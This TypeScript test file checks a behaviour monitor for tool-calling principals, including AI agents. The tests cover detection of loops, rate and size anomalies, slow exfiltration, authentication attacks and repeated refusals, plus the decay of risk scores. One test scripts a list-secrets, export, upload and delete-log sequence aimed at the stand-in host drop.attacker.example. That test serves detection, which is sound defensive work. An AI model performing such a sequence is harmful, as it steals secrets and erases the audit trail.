import { DEFAULT_BEHAVIOUR_SETTINGS } from '../../lambda/behaviour';
import { alice, HOUR, keyOf, MINUTE, Stand } from './stand';

describe('habits of a principal', () => {
  test('CV-2 a day as usual raises nothing', () => {
    const stand = new Stand();
    stand.work(500);
    expect(stand.kinds).toEqual([]);
    expect(stand.monitor.riskOf(keyOf(alice), stand.now)).toBe(0);
  });

  test('CV-2 cold start: unknown principals are not suspicious for being new, and still may not do anything', () => {
    const stand = new Stand();
    for (let i = 0; i < 49; i++) stand.call(`tool-${i}`, { [`member-${i}`]: i, url: `https://host-${i}.example/` }, { responseBytes: 10 ** (i % 6) });
    expect(stand.kinds).toEqual([]);
    stand.call('export', {}, { responseBytes: DEFAULT_BEHAVIOUR_SETTINGS.coldAnswerBytes + 1 });
    for (let i = 0; i < 300; i++) stand.call('read', { path: `${i}` }, {}, { ...alice, id: 'bob' });
    expect(stand.kinds).toEqual(expect.arrayContaining(['size', 'rate']));
  });

  test('CV-2 what is usual of a tool for others counts for a principal that is new to it', () => {
    const stand = new Stand();
    for (let i = 0; i < 60; i++) stand.call('read', { path: `${i}` }, { responseBytes: 2_000 }, { ...alice, id: `user-${i}` });
    stand.call('read', { path: 'all' }, { responseBytes: 900_000 }, { ...alice, id: 'new' });
    expect(stand.kinds).toEqual(['size']);
  });

  test('T-S3 an agent that goes in circles is a loop, with risk that policies read', () => {
    const stand = new Stand();
    stand.work(100);
    let risk = 0;
    for (let i = 0; i < 20; i++) {
      stand.now += 1_000;
      risk = stand.call('search', { query: 'the same' });
    }
    expect(stand.kinds).toContain('loop');
    expect(risk).toBeGreaterThanOrEqual(50);
  });

  test('CV-2 reading everything at once is a rate that is not usual', () => {
    const stand = new Stand();
    stand.work(100);
    for (let i = 0; i < 120; i++) {
      stand.now += 200;
      stand.call('read', { path: `all/${i}.md` });
    }
    expect(stand.kinds).toContain('rate');
  });

  test('DLP-3 an answer far larger than the tool usually gives', () => {
    const stand = new Stand();
    stand.work(200);
    stand.call('read', { path: 'dump.sql' }, { responseBytes: 600_000 });
    expect(stand.kinds).toEqual(['size']);
  });

  test('LOG-3 HOST-1 an unusual sequence of tools, with a destination that is new', () => {
    const stand = new Stand();
    stand.work(200);
    const risks = ['list_secrets', 'export', 'upload', 'delete_log'].map((tool) => stand.call(tool, { url: 'https://drop.attacker.example/in' }));
    expect(stand.kinds).toContain('unusual_sequence');
    expect(risks.at(-1)).toBeGreaterThanOrEqual(50);
    expect(JSON.stringify(stand.detections)).not.toContain('drop.attacker');
  });

  test('T-D3 slow exfiltration: each call is small, hours of them are not', () => {
    const stand = new Stand();
    stand.work(600);
    for (let i = 0; i < 60; i++) {
      stand.now += 5 * MINUTE;
      stand.call('read', { path: `notes/${i}.md` }, { responseBytes: 9_000 });
      stand.now += 1_000;
      for (let k = 0; k < 6; k++) stand.call('read', { path: `more/${i}-${k}.md` }, { responseBytes: 9_500 });
    }
    expect(stand.kinds).toContain('volume');
  });

  test('LOG-3 failures of authentication and then a success, from one address', () => {
    const stand = new Stand();
    for (let i = 0; i < 6; i++) {
      stand.now += 2_000;
      stand.event({ principal: undefined, decision: 'deny', reason: 'token_invalid', httpStatus: 401, sourceIp: '203.0.113.9' });
    }
    stand.event({ principal: alice, sourceIp: '192.0.2.1' });
    expect(stand.kinds).toEqual([]);
    stand.event({ principal: alice, sourceIp: '203.0.113.9' });
    expect(stand.detections).toMatchObject([{ kind: 'failures_then_success', sourceIp: '203.0.113.9', principal: keyOf(alice), risk: 60 }]);
  });

  test('LOG-3 requests without a token, as every client makes them first, are no failures', () => {
    const stand = new Stand();
    for (let i = 0; i < 20; i++) stand.event({ principal: undefined, decision: 'deny', reason: 'no_token', httpStatus: 401 });
    stand.event({ principal: alice });
    expect(stand.kinds).toEqual([]);
  });

  test('LOG-3 what a guard found raises the risk and is told once', () => {
    const stand = new Stand();
    for (let i = 0; i < 5; i++) stand.call('read', { path: `${i}` }, { notes: ['guard:out secret/aws-access-key-id redacted at /content/0/text'] });
    expect(stand.detections).toMatchObject([{ kind: 'dlp', tool: 'read' }]);
    expect(stand.call('read', { path: 'x' })).toBe(40);
  });

  test('CV-2 many refusals are somebody who tries what is possible', () => {
    const stand = new Stand();
    for (let i = 0; i < 12; i++) stand.call('delete', { path: `${i}` }, { decision: 'deny', reason: 'not_permitted' });
    expect(stand.kinds).toEqual(['refusals']);
  });

  test('CV-4 risk fades', () => {
    const stand = new Stand();
    stand.call('read', {}, { notes: ['guard:out secret/x blocked'] });
    stand.now += DEFAULT_BEHAVIOUR_SETTINGS.riskHalfLifeMs;
    expect(stand.monitor.riskOf(keyOf(alice), stand.now)).toBe(20);
    stand.now += 24 * HOUR;
    expect(stand.monitor.riskOf(keyOf(alice), stand.now)).toBe(0);
  });

  test('one principal does not raise the risk of another', () => {
    const stand = new Stand();
    for (let i = 0; i < 30; i++) stand.call('search', { query: 'same' });
    expect(stand.kinds).toContain('loop');
    expect(stand.call('search', { query: 'same' }, {}, { ...alice, issuer: 'https://other.example' })).toBe(0);
  });
});
